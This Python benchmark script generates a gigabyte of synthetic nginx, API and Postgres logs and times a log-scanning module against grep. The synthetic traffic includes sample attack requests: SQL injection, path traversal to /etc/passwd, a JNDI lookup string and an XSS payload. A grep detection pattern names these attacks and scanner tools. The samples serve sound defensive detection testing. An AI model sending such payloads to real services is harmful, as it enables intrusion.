# Copyright (c) 2026, Pynomaly Operations
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""How long the scan of a gigabyte of logs takes, beside ``grep -c -E`` for the same kinds of
attack, in turns on the same files, and how much memory it takes with a tenth of them and with all.

Usage: python3 tests/bench/logs.py [--mebibytes 1024] [--rounds 3], with the collection's path as
for the tests. The logs are the same in every run, go to a temporary folder, and are removed.
"""

from __future__ import annotations

import argparse
import datetime
import json
import os
import random
import re
import statistics
import subprocess
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import BinaryIO

COMMAND_SECONDS = 900.0
SEED = 20261124
CLIENTS = 20_000
ATTACKERS = 40

#: What grep is asked for: how many lines look like an attack or a refused login. It tells no
#: client, no status, no time, and misses what is encoded twice.
GREP = (
    r"union[+ ]+select|or[+ ]1=1|sleep\(|\.\./|%2e%2e|/etc/passwd|<script|%3cscript"
    r"|\$(\{|%7b)jndi|%24%7bjndi|/\.env|/\.git|wp-login|phpmyadmin|actuator|cgi-bin|sqlmap|nikto|nuclei|masscan|zgrab"
    r"|/login HTTP/1\.1\" (401|403|422) |password authentication failed|no pg_hba\.conf entry"
)

RUNNER = """
import json, resource, sys
from ansible_collections.pynomaly.ops.plugins.module_utils._edges import log_scan
from ansible_collections.pynomaly.ops.plugins.module_utils._log_report import Choice, build
from ansible_collections.pynomaly.ops.plugins.module_utils._log_scan import Settings
workers = int(sys.argv[2])
files = log_scan.find_files(sys.argv[1], {})
scan, remarks = log_scan.scan_files(files, Settings(), 800, workers)
answer = build(scan, Choice(), remarks)
own = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
child = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024
shares = len(log_scan.split(files, workers or log_scan._cpus()))
print(json.dumps({
    "lines": answer["lines"], "remarks": remarks, "requests": answer["requests"],
    "failed_logins": answer["failed_logins"], "block": answer["block"],
    "patterns": {one["pattern"]: one["count"] for one in answer["patterns"]},
    "workers": shares if shares > 1 else 1,
    "memory_bytes": own + (child * shares if shares > 1 else 0),
}))
"""

AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Version/17.5",
    "python-requests/2.32.3",
    "pynomaly-client/1.4.2",
    "curl/8.5.0",
)
HOSTILE = (
    ("probe_path", "GET /.env", 404, AGENTS[4]),
    ("probe_path", "GET /wp-login.php", 404, AGENTS[0]),
    ("sql_injection", "GET /api/v1/detections?id=1+union+select+1,2", 422, AGENTS[2]),
    ("sql_injection", "GET /api/v1/detections?id=1%2520or%25201%253D1", 422, AGENTS[2]),
    ("path_traversal", "GET /static/..%2f..%2f..%2fetc%2fpasswd", 400, AGENTS[4]),
    ("jndi_injection", "GET /?x=$%7Bjndi:ldap://192.0.2.1/a%7D", 404, AGENTS[2]),
    ("cross_site_scripting", "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E", 404, AGENTS[0]),
    ("failed_login", "POST /api/v1/login", 401, AGENTS[2]),
    ("scanner_agent", "GET /api/v1/models", 200, "sqlmap/1.8.2#stable (https://sqlmap.org)"),
)


class Writer:
    """One log of one service, until it has its size."""

    def __init__(self, path: Path, size: int) -> None:
        self.path = path
        self.size = size
        self.lines = 0

    def write(self, lines: Iterator[str]) -> None:
        with self.path.open("wb") as file:
            written = 0
            while written < self.size:
                written += self._batch(file, lines)

    def _batch(self, file: BinaryIO, lines: Iterator[str]) -> int:
        batch = [next(lines) for _number in range(5000)]
        self.lines += len(batch)
        return file.write("".join(batch).encode())


def moments(step_ms: int) -> Iterator[tuple[str, str]]:
    """A line's stamp as the engine writes it, and as nginx does."""
    moment = datetime.datetime(2026, 11, 23, tzinfo=datetime.timezone.utc)
    while True:
        second, common = f"{moment:%Y-%m-%dT%H:%M:%S}", f"{moment:%d/%b/%Y:%H:%M:%S} +0000"
        for milliseconds in range(0, 1000, step_ms):
            yield f"{second}.{milliseconds:03d}512345Z", common
        moment += datetime.timedelta(seconds=1)


def nginx_lines(source: random.Random, counts: Counter[str]) -> Iterator[str]:
    """Nine tenths are the API's traffic; of the rest one part are files, one queries with encoded
    characters, and two percent of all are attacks by a few."""
    clients = [
        f"198.{18 + one // 16384}.{one // 64 % 256}.{one % 64 * 4 + 1}" for one in range(CLIENTS)
    ]
    attackers = [f"203.0.113.{one + 1}" for one in range(ATTACKERS)]
    for stamp, common in moments(20):
        chance = source.random()
        client = clients[int(CLIENTS * source.random() ** 2)]
        agent, status = AGENTS[source.randrange(len(AGENTS))], 200
        if chance < 0.25:
            request = "GET /health"
        elif chance < 0.55:
            request = "POST /api/v1/detect"
        elif chance < 0.80:
            request = f"GET /api/v1/detections/{source.getrandbits(64):016x}"
        elif chance < 0.90:
            request = (
                f"GET /api/v1/detections?limit={source.randrange(100)}&since=2026-11-23T10:00:00"
            )
        elif chance < 0.94:
            request = f"GET /static/app.{source.randrange(4096):03x}.js"
        elif chance < 0.97:
            request = f"GET /api/v1/search?q=caf%C3%A9%20{source.randrange(10**6)}"
        elif chance < 0.98:
            request, status = f"GET /api/v1/models/{source.randrange(10**4)}", 404
        else:
            name, request, status, agent = HOSTILE[source.randrange(len(HOSTILE))]
            client = attackers[source.randrange(ATTACKERS)]
            counts[name] += 1
        yield (
            f'{stamp} {client} - - [{common}] "{request} HTTP/1.1" {status} '
            f'{source.randrange(9000)} "-" "{agent}" request_time=0.{source.randrange(1000):03d} '
            "upstream_time=0.004 upstream_status=200 upstream=172.18.0.5:8000 "
            f"request_id={source.getrandbits(128):032x}\n"
        )


def api_lines(source: random.Random) -> Iterator[str]:
    for stamp, _common in moments(50):
        port, target = (
            source.randrange(32768, 60999),
            f"/api/v1/detections/{source.getrandbits(64):x}",
        )
        yield f'{stamp} INFO:uvicorn.access:172.18.0.9:{port} - "GET {target} HTTP/1.1" 200\n'


def postgres_lines(source: random.Random, counts: Counter[str]) -> Iterator[str]:
    for stamp, _common in moments(100):
        pid = source.randrange(100, 30000)
        prefix = f"{stamp} 2026-11-23 {stamp[11:23]} UTC [{pid}]"
        if source.random() < 0.01:
            counts["postgres_no_entry"] += 1
            yield (
                f'{prefix} FATAL:  no pg_hba.conf entry for host "203.0.113.{pid % 39 + 1}", '
                'user "postgres", database "postgres", no encryption\n'
            )
        else:
            yield f"{prefix} LOG:  duration: {source.random() * 5000:.3f} ms  statement: SELECT 1\n"


def generate(folder: Path, mebibytes: int) -> dict[str, int]:
    """Writes the logs; what the scan has to find."""
    source, counts = random.Random(SEED), Counter[str]()  # noqa: S311  # the same each time
    size = mebibytes * 1024 * 1024
    writers = {
        "nginx": Writer(folder / "nginx.log", size * 85 // 100),
        "api": Writer(folder / "pynomaly-api.log", size * 10 // 100),
        "postgres": Writer(folder / "postgres.log", size * 5 // 100),
    }
    writers["nginx"].write(nginx_lines(source, counts))
    writers["api"].write(api_lines(source))
    writers["postgres"].write(postgres_lines(source, counts))
    counts["lines"] = sum(one.lines for one in writers.values())
    counts["requests"] = writers["nginx"].lines
    return dict(counts)


def timed(argv: Sequence[str]) -> tuple[float, str]:
    began = time.monotonic()
    done = subprocess.run(
        list(argv),
        capture_output=True,
        text=True,
        timeout=COMMAND_SECONDS,
        check=False,
        env={**os.environ, "LC_ALL": "C"},
    )
    seconds = time.monotonic() - began
    if done.returncode != 0:
        raise RuntimeError(f"{argv[0]} ended with {done.returncode}: {done.stderr[-500:]}")
    return seconds, done.stdout


def grep(folder: Path) -> float:
    files = [str(path) for path in sorted(folder.glob("*.log"))]
    seconds, told = timed(["grep", "-c", "-i", "-E", GREP, *files])
    if sum(int(count) for count in re.findall(r":(\d+)$", told, re.MULTILINE)) == 0:
        raise RuntimeError("grep has found nothing, expected the attacks that were written")
    return seconds


def ours(folder: Path, expected: dict[str, int], workers: int) -> tuple[float, dict[str, object]]:
    """Seconds, and the scan's answer, which has to be exact to be timed."""
    seconds, told = timed([sys.executable, "-c", RUNNER, str(folder), str(workers)])
    answer = json.loads(told)
    seen = {**answer["patterns"], "lines": answer["lines"], "requests": answer["requests"]}
    wrong = [
        f"{name}: seen {seen.get(name)}, expected {count}"
        for name, count in expected.items()
        if seen.get(name) != count
    ]
    if wrong or answer["remarks"]:
        raise RuntimeError(
            f"what was timed is no whole scan: {'; '.join(wrong)} {answer['remarks']}"
        )
    return seconds, answer


def measure(mebibytes: int, rounds: int, place: str) -> dict[str, object]:
    """All figures; the ratios are the rounds' own."""
    seconds: dict[str, list[float]] = {"grep": [], "scan": [], "scan_one": []}
    memory: dict[str, int] = {}
    small = max(1, mebibytes // 10)
    with tempfile.TemporaryDirectory(prefix="pynomaly-bench-", dir=place) as folder:
        expected = generate(Path(folder), small)
        _seconds, answer = ours(Path(folder), expected, 0)
        memory["small"] = int(str(answer["memory_bytes"]))
    with tempfile.TemporaryDirectory(prefix="pynomaly-bench-", dir=place) as folder:
        expected = generate(Path(folder), mebibytes)
        grep(Path(folder))  # the files are in the page cache for both
        for _round in range(rounds):
            seconds["grep"].append(grep(Path(folder)))
            taken, answer = ours(Path(folder), expected, 0)
            seconds["scan"].append(taken)
            taken, alone = ours(Path(folder), expected, 1)
            seconds["scan_one"].append(taken)
    memory["whole"] = int(str(answer["memory_bytes"]))
    memory["whole_one"] = int(str(alone["memory_bytes"]))
    return {
        "mebibytes": mebibytes,
        "small_mebibytes": small,
        "lines": expected["lines"],
        "workers": answer["workers"],
        "seconds": seconds,
        "ratios": [mine / theirs for mine, theirs in zip(seconds["scan"], seconds["grep"])],
        "ratios_one": [mine / theirs for mine, theirs in zip(seconds["scan_one"], seconds["grep"])],
        "memory_bytes": memory,
    }


def lines(figures: dict[str, object]) -> list[str]:
    """What to print."""
    seconds, memory = figures["seconds"], figures["memory_bytes"]
    ratios, ratios_one = figures["ratios"], figures["ratios_one"]
    if not isinstance(seconds, dict) or not isinstance(memory, dict):
        raise TypeError("figures are those of measure()")
    if not isinstance(ratios, list) or not isinstance(ratios_one, list):
        raise TypeError("figures are those of measure()")
    mebi = 1024 * 1024
    many = f"incident_log_info, {figures['workers']} processes"

    def told(name: str, key: str, own: list[float]) -> str:
        rounds = " ".join(f"{ratio:.2f}" for ratio in own)
        ratio = f"{statistics.median(own):6.2f}× grep   (rounds: {rounds})" if own else ""
        return f"  {name:36}{statistics.median(seconds[key]):8.2f} s  {ratio}".rstrip()

    return [
        f"logs of {figures['mebibytes']} MiB, {figures['lines']} lines, three services:",
        told("grep -c -i -E", "grep", []),
        told(many, "scan", ratios),
        told("incident_log_info, one process", "scan_one", ratios_one),
        f"  peak memory, all processes at most: {memory['small'] / mebi:.0f} MiB with "
        f"{figures['small_mebibytes']} MiB of logs, {memory['whole'] / mebi:.0f} MiB with "
        f"{figures['mebibytes']} MiB; one process {memory['whole_one'] / mebi:.0f} MiB",
    ]


def main(arguments: Sequence[str] = ()) -> int:
    parser = argparse.ArgumentParser(description="How long the scan of a gigabyte of logs takes.")
    parser.add_argument("--mebibytes", type=int, default=1024)
    parser.add_argument("--rounds", type=int, default=3)
    parser.add_argument("--place", default=tempfile.gettempdir(), help="where the logs are written")
    parser.add_argument("--json", action="store_true", help="print the figures as JSON")
    chosen = parser.parse_args(list(arguments))
    figures = measure(chosen.mebibytes, chosen.rounds, chosen.place)
    print(json.dumps(figures) if chosen.json else "\n".join(lines(figures)))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
